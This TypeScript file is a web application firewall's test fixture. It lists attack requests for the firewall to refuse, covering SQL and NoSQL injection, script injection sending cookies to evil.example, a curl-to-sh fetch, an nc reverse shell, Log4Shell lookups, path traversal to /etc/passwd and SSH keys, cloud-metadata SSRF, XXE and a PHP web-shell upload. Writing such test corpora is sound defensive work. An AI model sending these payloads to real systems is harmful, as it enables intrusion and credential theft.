/*
 * Attacks as scanners and people send them. Each is a request that the WAF must refuse, whatever is behind it.
 */

export type Attack = {
  what: string
  method?: string
  path: string
  headers?: Record<string, string>
  body?: string
}

const query = (what: string, value: string): Attack => ({
  what,
  path: `/api/v1/members?cursor=${encodeURIComponent(value)}`
})
const json = (what: string, value: string, member = 'email'): Attack => ({
  what,
  method: 'POST',
  path: '/api/v1/auth/login',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ [member]: value, password: 'x' })
})
const header = (what: string, name: string, value: string, path = '/api/v1/health'): Attack => ({
  what,
  path,
  headers: { [name]: value }
})
const form = (what: string, text: string, boundary = 'b0undary'): Attack => ({
  what,
  method: 'POST',
  path: '/api/v1/invitations',
  headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  body: text.replaceAll('\n', '\r\n')
})

/** SQL, in a query, a member of JSON, a header and the path. */
const sql: Attack[] = [
  query('SQL: always true', "' or '1'='1"),
  query('SQL: a union', '1 union select email, password_hash from users--'),
  query('SQL: stacked', '1; drop table users;--'),
  query('SQL: waiting', "1' and (select 1 from pg_sleep(10))--"),
  query('SQL: without blanks', "1'/**/union/**/select/**/null,version()--"),
  query('SQL: a file', "1' union select pg_read_file('/etc/passwd')--"),
  query('SQL: an error that tells', '1 and extractvalue(1,concat(0x7e,(select user())))'),
  query('SQL: of another make', "'; exec master..xp_cmdshell 'dir'--"),
  json('SQL: a sign-in', "admin' or 1=1--"),
  json('SQL: in JSON, a union', "x' UNION ALL SELECT NULL,NULL,concat(user,password) FROM users-- -"),
  json('SQL: in JSON, a sleep', "1' AND SLEEP(5)#", 'slug'),
  json('SQL: the schema', "1' and 1=(select count(*) from information_schema.tables)--", 'code'),
  header('SQL: in a header', 'referer', "https://a.example/' union select 1,2,3 from users--"),
  json('NoSQL: an operator', '{"$where":"sleep(1000)"}', 'filter'),
  query('NoSQL: a comparison', '{"$gt":"","$ne":null}')
]
/** Scripts. */
const scripts: Attack[] = [
  query('script: plain', '<script>alert(document.cookie)</script>'),
  query('script: a picture', '<img src=x onerror=alert(1)>'),
  query('script: a drawing', '<svg/onload=fetch("//evil.example/"+document.cookie)>'),
  query('script: an address', 'javascript:alert(document.domain)//'),
  query('script: a frame', '<iframe srcdoc="<script>alert(1)</script>">'),
  json('script: in JSON', '"><script src=//evil.example/x.js></script>', 'slug'),
  json('script: an event', '<body onpageshow=alert(1)>', 'code'),
  header('script: in a header', 'referer', 'https://a.example/<script>alert(1)</script>'),
  { what: 'script: in the path', path: '/api/v1/%3Cscript%3Ealert(1)%3C/script%3E' }
]
/** Commands of a shell. */
const commands: Attack[] = [
  query('command: after a semicolon', '; cat /etc/passwd'),
  query('command: in its place', '$(curl http://evil.example/x.sh|sh)'),
  query('command: in backticks', '`wget http://evil.example/x`'),
  query('command: of Windows', '& powershell -enc SQBFAFgA'),
  json('command: a pipe', '| nc -e /bin/sh 203.0.113.9 4444', 'slug'),
  json('command: hidden', 'a;{wget,http://evil.example/x,-O-}|bash', 'host'),
  header('command: Shellshock', 'user-agent', '() { :;}; /bin/bash -c "cat /etc/passwd"'),
  { what: 'command: in the path', path: '/cgi-bin/.%2e/.%2e/.%2e/bin/sh?echo;id' }
]
/** Files of the machine, and of the deployment. */
const files: Attack[] = [
  query('file: up', '../../../../etc/passwd'),
  query('file: up, coded twice', '..%252f..%252f..%252fetc%252fpasswd'),
  query('file: of Windows', '..\\..\\windows\\win.ini'),
  query('file: of the process', '/proc/self/environ'),
  { what: 'file: up, in the path', path: '/api/v1/files/..%2f..%2f..%2fetc%2fpasswd' },
  { what: 'file: secrets', path: '/.env' },
  { what: 'file: the repository', path: '/.git/config' },
  { what: 'file: keys', path: '/.ssh/id_rsa' },
  { what: 'file: of a package', path: '/.npmrc' },
  query('file: of a filter', 'php://filter/convert.base64-encode/resource=index.php')
]
/** What Java, PHP, Node and templates execute. */
const languages: Attack[] = [
  header('Java: Log4Shell', 'user-agent', `\${jndi:ldap://evil.example/a}`),
  header('Java: Log4Shell, hidden', 'x-api-version', `\${\${lower:j}ndi:\${lower:l}dap://evil.example/a}`),
  query('Java: Log4Shell', `\${jndi:dns://evil.example/a}`),
  json('Java: Log4Shell in JSON', `\${jndi:rmi://evil.example/a}`, 'name'),
  query('Java: Spring', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
  query('Java: a process', '(new java.lang.ProcessBuilder("id")).start()'),
  query('PHP: a program', '<?php system($_GET["c"]); ?>'),
  query('PHP: a function', 'shell_exec(base64_decode("aWQ="))'),
  query('PHP: an object', 'O:8:"stdClass":1:{s:3:"cmd";s:2:"id";}'),
  query('Node: a process', 'require("child_process").exec("id")'),
  json('Node: a prototype', '__proto__.constructor.prototype.admin', 'slug'),
  query('Node: serialised', '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
  query('template: Jinja', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
  query('Ruby: a process', 'Process.spawn("id")')
]
/** Addresses that the server shall call. */
const calls: Attack[] = [
  query('call: the metadata of a cloud', 'http://169.254.169.254/latest/meta-data/iam/'),
  json('call: the metadata, in JSON', 'http://metadata.google.internal/computeMetadata/v1/', 'slug'),
  query('call: itself', 'http://127.0.0.1:22/'),
  query('call: another protocol', 'gopher://127.0.0.1:6379/_FLUSHALL'),
  query('call: a file', 'file:///etc/passwd')
]
/** HTTP itself. */
const protocol: Attack[] = [
  query('HTTP: a split response', 'x\r\nSet-Cookie: admin=1\r\nContent-Type: text/html'),
  query('HTTP: a request in it', 'x\r\n\r\nGET /admin HTTP/1.1\r\nHost: a'),
  query('HTTP: a null byte', 'a\u0000.png'),
  { what: 'HTTP: a null byte in the path', path: '/api/v1/files/a%00.png' },
  { what: 'HTTP: TRACE', method: 'TRACE', path: '/api/v1/health' },
  { what: 'HTTP: a method of WebDAV', method: 'PROPFIND', path: '/api/v1/files' },
  header('HTTP: a proxy variable', 'proxy', 'http://evil.example'),
  header('HTTP: another method', 'x-http-method-override', 'TRACE;'),
  header('HTTP: the content type twice', 'content-type', 'application/json; charset=utf-8; charset=ibm037'),
  {
    ...json('HTTP: XML, with an entity', ''),
    headers: { 'content-type': 'application/xml' },
    body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
  },
  { ...json('HTTP: JSON that is none', ''), body: '{"email": "a", ' },
  { ...json('HTTP: JSON without a bottom', ''), body: `${'['.repeat(5000)}${']'.repeat(5000)}` },
  { ...json('HTTP: another character set', ''), headers: { 'content-type': 'application/json; charset=utf-7' } }
]
/** Programs that look for holes. */
const scanners: Attack[] = [
  header('scanner: sqlmap', 'user-agent', 'sqlmap/1.8#stable (https://sqlmap.org)'),
  header('scanner: Nikto', 'user-agent', 'Mozilla/5.00 (Nikto/2.5.0)'),
  header('scanner: Nuclei', 'user-agent', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'),
  header('scanner: Masscan', 'user-agent', 'masscan/1.3')
]
/** Forms, where the product takes none. */
const forms: Attack[] = [
  form(
    'form: a program as a picture',
    '--b0undary\nContent-Disposition: form-data; name="file"; filename="a.php"\nContent-Type: image/png\n\n<?php system("id"); ?>\n--b0undary--\n'
  ),
  form(
    'form: a file name that climbs',
    '--b0undary\nContent-Disposition: form-data; name="file"; filename="../../../etc/passwd"\n\nx\n--b0undary--\n'
  ),
  form(
    'form: a header in a part',
    '--b0undary\nContent-Disposition: form-data; name="a"\nContent-Transfer-Encoding: quoted-printable\n\n=27 or 1=3D1\n--b0undary--\n'
  ),
  form(
    'form: SQL in a field',
    '--b0undary\nContent-Disposition: form-data; name="email"\n\n1\' union select null,version()--\n--b0undary--\n'
  ),
  form(
    'form: a script in a field',
    '--b0undary\nContent-Disposition: form-data; name="slug"\n\n<script>alert(1)</script>\n--b0undary--\n'
  )
]

export const attacks = [
  ...sql,
  ...scripts,
  ...commands,
  ...files,
  ...languages,
  ...calls,
  ...protocol,
  ...scanners,
  ...forms
]
